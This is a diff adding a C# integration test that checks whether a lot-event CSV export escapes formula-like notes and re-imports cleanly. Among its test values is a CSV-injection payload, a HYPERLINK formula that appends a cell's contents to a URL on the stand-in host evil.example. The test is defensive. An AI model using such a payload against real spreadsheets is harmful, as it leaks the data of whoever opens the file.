@@ -153,6 +153,38 @@ public sealed class ImportTests(ConsoleAppFixture fixture) : IClassFixture<Conso
     }
 
     [Fact]
+    public async Task The_lot_export_escapes_formula_like_notes_and_still_reimports_to_the_same_events()
+    {
+        var producer = await App.NewProducerAsync();
+        var browser = await producer.SignInAsync();
+        var (gtin14, lot) = await ConsoleFlowTests.SetUpLotAsync(producer, browser);
+        string[] notes = ["=1+1", "=HYPERLINK(\"https://evil.example/?\"&A1,\"Bấm\")", "+cmd", "-2+3", "@SUM(A1)", "'=quoted", "bình thường"];
+        for (var i = 0; i < notes.Length; i++)
+        {
+            var response = await browser.SubmitAsync("/console/events/new", "/console/events/new", new()
+            {
+                ["lot"] = $"{gtin14}:{lot}", ["step"] = "shipping", ["location"] = "SC-HAMYEN", ["quantity"] = "1", ["uom"] = "KGM",
+                ["time"] = $"2026-11-21T1{i}:00", ["note"] = notes[i],
+            });
+            Assert.Equal(HttpStatusCode.Redirect, response.StatusCode);
+        }
+
+        var export = await browser.Client.GetByteArrayAsync($"/console/lots/{gtin14}/{lot}/export.csv");
+        var rows = MiniExcelLibs.MiniExcel.Query(new MemoryStream(export), useHeaderRow: true, excelType: MiniExcelLibs.ExcelType.CSV)
+            .Cast<IDictionary<string, object?>>().ToList();
+        Assert.Equal(notes.Length, rows.Count);
+        string[] expected = ["'=1+1", "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Bấm\")", "'+cmd", "'-2+3", "'@SUM(A1)", "''=quoted", "bình thường"];
+        Assert.Equivalent(expected, rows.Select(r => (string)r["note"]!).ToList(), strict: true);
+        Assert.All(rows.SelectMany(r => r.Values).OfType<string>(), v => Assert.False(v.Length > 0 && "=+-@\t\r".Contains(v[0]), $"'{v}' starts a formula"));
+
+        var job = await UploadAsync(browser, export, "xuat.csv");
+        Assert.Equal("ready", (string)(await WaitAsync(browser, job))["phase"]!);
+        var done = await CommitAsync(browser, job);
+        Assert.Equal(0, (int)done["stored"]!);
+        Assert.Equal(notes.Length, (int)done["duplicates"]!);
+    }
+
+    [Fact]
     public async Task The_templates_explain_the_columns_in_Vietnamese_and_read_back()
     {
         var browser = await (await App.NewProducerAsync()).SignInAsync();
